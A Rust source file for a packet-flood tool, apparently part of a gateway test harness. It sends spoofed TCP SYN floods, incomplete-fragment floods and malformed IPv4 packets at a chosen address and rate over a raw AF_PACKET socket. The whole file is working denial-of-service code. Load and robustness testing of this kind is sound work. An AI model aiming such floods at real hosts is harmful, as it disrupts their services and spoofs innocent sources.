//! A paced flood of spoofed IPv4 packets written straight into a network device, for
//! `scripts/flood.sh`: what an attacker on the far side of a link sends at the gateway.
//!
//! ```text
//! flood --iface DEV --kind syn|frag|junk --rate PPS --seconds S --dst ADDR [--dport PORT]
//!       [--src-net A.B.C] [--seed N]
//! ```
//!
//! * `syn`: TCP SYNs (with an MSS option) from random hosts of `--src-net` (a /24, default
//!   203.0.113) and random ports to `--dst`:`--dport`. Each is a new connection.
//! * `frag`: first fragments (offset 0, more-fragments set, random IP ID) of UDP datagrams
//!   to `--dst` whose rest never comes: each opens a reassembly queue.
//! * `junk`: packets that no parser may accept, in rotation: bad IP version, header length
//!   below 20, bad header checksum, total length beyond the bytes, a TCP header cut short,
//!   and random bytes.
//!
//! Packets are written with an `AF_PACKET`/`SOCK_DGRAM` socket bound to the device (a TUN
//! device takes the bare IP packet), so they bypass the sender's routing and checks. The rate
//! is kept per millisecond; a write refused because the device's queue is full counts as an
//! error, not as sent. Prints `sent=N errors=E seconds=S` at the end.

use std::ffi::CString;
use std::io;
use std::net::Ipv4Addr;
use std::process::ExitCode;
use std::time::{Duration, Instant};

#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    Syn,
    Frag,
    Junk,
}

struct Args {
    iface: String,
    kind: Kind,
    rate: u64,
    seconds: f64,
    dst: Ipv4Addr,
    dport: u16,
    src_net: [u8; 3],
    seed: u64,
}

fn usage() -> String {
    "usage: flood --iface DEV --kind syn|frag|junk --rate PPS --seconds S --dst ADDR \
     [--dport PORT] [--src-net A.B.C] [--seed N]"
        .into()
}

fn parse_args() -> Result<Args, String> {
    let mut a = Args {
        iface: String::new(),
        kind: Kind::Syn,
        rate: 0,
        seconds: 0.0,
        dst: Ipv4Addr::UNSPECIFIED,
        dport: 80,
        src_net: [203, 0, 113],
        seed: 1,
    };
    let mut it = std::env::args().skip(1);
    while let Some(k) = it.next() {
        let v = it
            .next()
            .ok_or_else(|| format!("{k} needs a value\n{}", usage()))?;
        let bad = |what: &str| format!("{k} {v}: expected {what}");
        match k.as_str() {
            "--iface" => a.iface = v,
            "--kind" => {
                a.kind = match v.as_str() {
                    "syn" => Kind::Syn,
                    "frag" => Kind::Frag,
                    "junk" => Kind::Junk,
                    _ => return Err(bad("syn, frag or junk")),
                }
            }
            "--rate" => a.rate = v.parse().map_err(|_| bad("packets per second"))?,
            "--seconds" => a.seconds = v.parse().map_err(|_| bad("seconds"))?,
            "--dst" => a.dst = v.parse().map_err(|_| bad("an IPv4 address"))?,
            "--dport" => a.dport = v.parse().map_err(|_| bad("a port"))?,
            "--seed" => a.seed = v.parse().map_err(|_| bad("a number"))?,
            "--src-net" => {
                let p: Vec<u8> = v
                    .split('.')
                    .map(str::parse)
                    .collect::<Result<_, _>>()
                    .map_err(|_| bad("three octets, A.B.C"))?;
                a.src_net = p.try_into().map_err(|_| bad("three octets, A.B.C"))?;
            }
            _ => return Err(format!("unknown option {k}\n{}", usage())),
        }
    }
    if a.iface.is_empty() || a.rate == 0 || a.seconds <= 0.0 || a.dst.is_unspecified() {
        return Err(usage());
    }
    Ok(a)
}

/// xorshift64*: reproducible from `--seed`, and cheap.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
}

fn sum16(data: &[u8], mut acc: u32) -> u32 {
    let mut c = data.chunks_exact(2);
    for w in &mut c {
        acc += u32::from(u16::from_be_bytes([w[0], w[1]]));
    }
    if let [b] = c.remainder() {
        acc += u32::from(*b) << 8;
    }
    acc
}

fn fold(mut acc: u32) -> u16 {
    while acc > 0xffff {
        acc = (acc & 0xffff) + (acc >> 16);
    }
    !(acc as u16)
}

/// An IPv4 header for `payload` bytes, checksum filled.
fn ipv4(src: [u8; 4], dst: [u8; 4], proto: u8, payload: usize, id: u16, frag: u16) -> [u8; 20] {
    let mut h = [0u8; 20];
    h[0] = 0x45;
    h[2..4].copy_from_slice(&((20 + payload) as u16).to_be_bytes());
    h[4..6].copy_from_slice(&id.to_be_bytes());
    h[6..8].copy_from_slice(&frag.to_be_bytes());
    h[8] = 64;
    h[9] = proto;
    h[12..16].copy_from_slice(&src);
    h[16..20].copy_from_slice(&dst);
    let ck = fold(sum16(&h, 0));
    h[10..12].copy_from_slice(&ck.to_be_bytes());
    h
}

fn l4_checksum(src: [u8; 4], dst: [u8; 4], proto: u8, l4: &[u8]) -> u16 {
    let mut ps = [0u8; 12];
    ps[0..4].copy_from_slice(&src);
    ps[4..8].copy_from_slice(&dst);
    ps[9] = proto;
    ps[10..12].copy_from_slice(&(l4.len() as u16).to_be_bytes());
    fold(sum16(l4, sum16(&ps, 0)))
}

fn make(a: &Args, rng: &mut Rng, n: u64, out: &mut Vec<u8>) {
    out.clear();
    let r = rng.next();
    let src = [
        a.src_net[0],
        a.src_net[1],
        a.src_net[2],
        1 + (r % 254) as u8,
    ];
    let dst = a.dst.octets();
    match a.kind {
        Kind::Syn => {
            let mut t = [0u8; 24];
            let sport = 1024 + ((r >> 8) % 64_512) as u16;
            t[0..2].copy_from_slice(&sport.to_be_bytes());
            t[2..4].copy_from_slice(&a.dport.to_be_bytes());
            t[4..8].copy_from_slice(&((r >> 24) as u32).to_be_bytes());
            t[12] = 6 << 4;
            t[13] = 0x02;
            t[14..16].copy_from_slice(&64_240u16.to_be_bytes());
            t[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]);
            let ck = l4_checksum(src, dst, 6, &t);
            t[16..18].copy_from_slice(&ck.to_be_bytes());
            out.extend_from_slice(&ipv4(src, dst, 6, t.len(), (r >> 40) as u16, 0x4000));
            out.extend_from_slice(&t);
        }
        Kind::Frag => {
            // A UDP header and 64 bytes: the first of a datagram announced as longer.
            let mut u = [0u8; 72];
            u[0..2].copy_from_slice(&(1024 + ((r >> 8) % 64_512) as u16).to_be_bytes());
            u[2..4].copy_from_slice(&a.dport.to_be_bytes());
            u[4..6].copy_from_slice(&1480u16.to_be_bytes());
            out.extend_from_slice(&ipv4(src, dst, 17, u.len(), (r >> 24) as u16, 0x2000));
            out.extend_from_slice(&u);
        }
        Kind::Junk => {
            let mut t = [0u8; 20];
            t[0..2].copy_from_slice(&(1024 + ((r >> 8) % 64_512) as u16).to_be_bytes());
            t[2..4].copy_from_slice(&a.dport.to_be_bytes());
            t[12] = 5 << 4;
            t[13] = 0x02;
            let mut h = ipv4(src, dst, 6, t.len(), (r >> 40) as u16, 0);
            match n % 6 {
                // Version 5.
                0 => h[0] = 0x55,
                // Header length 16 bytes.
                1 => h[0] = 0x44,
                // Checksum off by one.
                2 => h[11] ^= 1,
                // Claims 200 bytes more than it has (checksum redone: only the length lies).
                3 => {
                    h[2..4].copy_from_slice(&(240u16).to_be_bytes());
                    h[10..12].copy_from_slice(&[0, 0]);
                    let ck = fold(sum16(&h, 0));
                    h[10..12].copy_from_slice(&ck.to_be_bytes());
                }
                // TCP header cut to 8 bytes.
                4 => {
                    h = ipv4(src, dst, 6, 8, (r >> 40) as u16, 0);
                    out.extend_from_slice(&h);
                    out.extend_from_slice(&t[..8]);
                    return;
                }
                // Random bytes.
                _ => {
                    let len = 1 + (r % 120) as usize;
                    while out.len() < len {
                        out.extend_from_slice(&rng.next().to_le_bytes());
                    }
                    out.truncate(len);
                    return;
                }
            }
            out.extend_from_slice(&h);
            out.extend_from_slice(&t);
        }
    }
}

fn open(iface: &str) -> io::Result<(i32, libc::sockaddr_ll)> {
    let name = CString::new(iface).map_err(|_| io::Error::other("bad interface name"))?;
    // SAFETY: plain libc calls with valid arguments; the descriptor is owned by the caller.
    unsafe {
        let idx = libc::if_nametoindex(name.as_ptr());
        if idx == 0 {
            return Err(io::Error::last_os_error());
        }
        let proto = (libc::ETH_P_IP as u16).to_be();
        let fd = libc::socket(libc::AF_PACKET, libc::SOCK_DGRAM, i32::from(proto));
        if fd < 0 {
            return Err(io::Error::last_os_error());
        }
        let mut sll: libc::sockaddr_ll = std::mem::zeroed();
        sll.sll_family = libc::AF_PACKET as u16;
        sll.sll_protocol = proto;
        sll.sll_ifindex = idx as i32;
        Ok((fd, sll))
    }
}

fn main() -> ExitCode {
    let a = match parse_args() {
        Ok(a) => a,
        Err(e) => {
            eprintln!("flood: {e}");
            return ExitCode::from(2);
        }
    };
    let (fd, sll) = match open(&a.iface) {
        Ok(s) => s,
        Err(e) => {
            eprintln!("flood: {}: {e}", a.iface);
            return ExitCode::from(1);
        }
    };
    let mut rng = Rng(a.seed.max(1).wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);
    let mut pkt = Vec::with_capacity(256);
    let (mut sent, mut errors) = (0u64, 0u64);
    let start = Instant::now();
    let end = Duration::from_secs_f64(a.seconds);
    let tick = Duration::from_millis(1);
    let mut due = 0u64;
    let mut n = 0u64;
    loop {
        let el = start.elapsed();
        if el >= end {
            break;
        }
        // Packets owed by now: the rate holds on average even when a tick is late.
        let owed = (el.as_secs_f64() * a.rate as f64) as u64;
        while due < owed {
            make(&a, &mut rng, n, &mut pkt);
            n += 1;
            due += 1;
            // SAFETY: `pkt` and `sll` are valid for the lengths given.
            let r = unsafe {
                libc::sendto(
                    fd,
                    pkt.as_ptr().cast(),
                    pkt.len(),
                    0,
                    (&sll as *const libc::sockaddr_ll).cast(),
                    std::mem::size_of::<libc::sockaddr_ll>() as u32,
                )
            };
            if r < 0 {
                errors += 1;
            } else {
                sent += 1;
            }
        }
        std::thread::sleep(tick);
    }
    // SAFETY: our descriptor, closed once.
    unsafe { libc::close(fd) };
    println!(
        "sent={sent} errors={errors} seconds={:.2}",
        start.elapsed().as_secs_f64()
    );
    ExitCode::SUCCESS
}
